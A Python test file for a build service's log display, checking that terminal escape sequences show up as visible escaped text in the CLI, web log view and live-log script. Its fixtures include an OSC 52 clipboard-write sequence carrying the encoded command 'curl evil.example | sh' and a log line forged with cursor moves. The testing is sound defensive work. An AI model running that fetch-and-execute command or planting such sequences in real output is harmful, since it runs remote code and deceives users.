"""Logs are text: an OSC 52 clipboard write and a line forged with ``\\r`` and cursor moves reach the reader as
visible ``\\xNN`` text, in ``compilesvc logs`` (``--raw`` gives them as logged), ``submit --logs``'s tails, the
UI's full log (``?raw=1`` as logged), the page's filter and the live log's script."""

from __future__ import annotations

import base64
import json
import re
import shutil
import subprocess
from pathlib import Path

import pytest
from click.testing import CliRunner

from compilesvc.cli.main import main as cli
from compilesvc.client.terminal_text import visible
from tests.fleet.conftest import FleetApi, fleet_api  # noqa: F401 (the served API fixture)
from tests.web.support import complete_build, spec_for
from web.ui.filters import log_text

OSC52 = "\x1b]52;c;" + base64.b64encode(b"curl evil.example | sh").decode() + "\x07"
FORGED = "error: out of memory\r\x1b[2K\x1b[1A[compile-child] ok"
SHOWN_OSC52 = "\\x1b]52;c;" + base64.b64encode(b"curl evil.example | sh").decode() + "\\x07"
SHOWN_FORGED = "error: out of memory\\x0d\\x1b[2K\\x1b[1A[compile-child] ok"


def test_visible_escapes_every_control_but_tab_and_newline() -> None:
    assert visible(OSC52) == SHOWN_OSC52 and visible(FORGED) == SHOWN_FORGED
    assert visible("a\tb\nc \u009b31m é ✓ \\x41") == "a\tb\nc \\x9b31m é ✓ \\x41"
    assert visible("".join(map(chr, range(0x20)))).count("\\x") == 30
    assert log_text(OSC52) == SHOWN_OSC52 and log_text(None) == ""


def test_compilesvc_logs_and_the_full_log_show_escapes_as_text(fleet_api: FleetApi) -> None:  # noqa: F811
    submitted = fleet_api.env.submit(spec_for(fleet_api.env.upload(b"logs"), buckets=((1, 8),)))
    build_id = submitted.json["build_id"]
    complete_build(fleet_api.env.services, build_id, log_lines=(OSC52, FORGED, "plain\tline"))
    env = {"COMPILESVC_API_URL": fleet_api.base, "COMPILESVC_TOKEN": fleet_api.env.token}
    shown = CliRunner().invoke(cli, ["logs", str(build_id)], env=env, catch_exceptions=False)
    assert shown.exit_code == 0, shown.output
    assert shown.output.splitlines() == [f"[bucket 0] {SHOWN_OSC52}", f"[bucket 0] {SHOWN_FORGED}",
                                         "[bucket 0] plain\tline"]
    assert "\x1b" not in shown.output and "\r" not in shown.output
    raw = CliRunner().invoke(cli, ["logs", str(build_id), "--raw"], env=env, catch_exceptions=False)
    assert raw.exit_code == 0 and f"[bucket 0] {OSC52}\n[bucket 0] {FORGED}\n" in raw.output

    text = fleet_api.env.client.get(f"/builds/{build_id}/log.txt")
    assert text.status_code == 200, text.get_data(as_text=True)
    body = text.get_data(as_text=True)
    assert SHOWN_OSC52 in body and SHOWN_FORGED in body and "\x1b" not in body and "\r" not in body
    as_logged = fleet_api.env.client.get(f"/builds/{build_id}/log.txt?raw=1").get_data(as_text=True)
    assert OSC52 in as_logged and FORGED in as_logged


def test_the_live_log_script_shows_controls_as_the_server_does() -> None:
    node = shutil.which("node")
    if node is None:
        pytest.skip("no node on this host")
    script = (Path(__file__).resolve().parents[2] / "web" / "static" / "build.js").read_text()
    function = re.search(r"  function visible\(text\) \{.*?\n  \}\n", script, re.S)
    assert function is not None, "build.js has no visible(text)"
    lines = [OSC52, FORGED, "a\tb é \u009b"]
    program = function.group() + f"process.stdout.write(JSON.stringify({json.dumps(lines)}.map(visible)));"
    done = subprocess.run([node, "-e", program], capture_output=True, text=True, timeout=30, check=True)
    assert json.loads(done.stdout) == [visible(line) for line in lines]
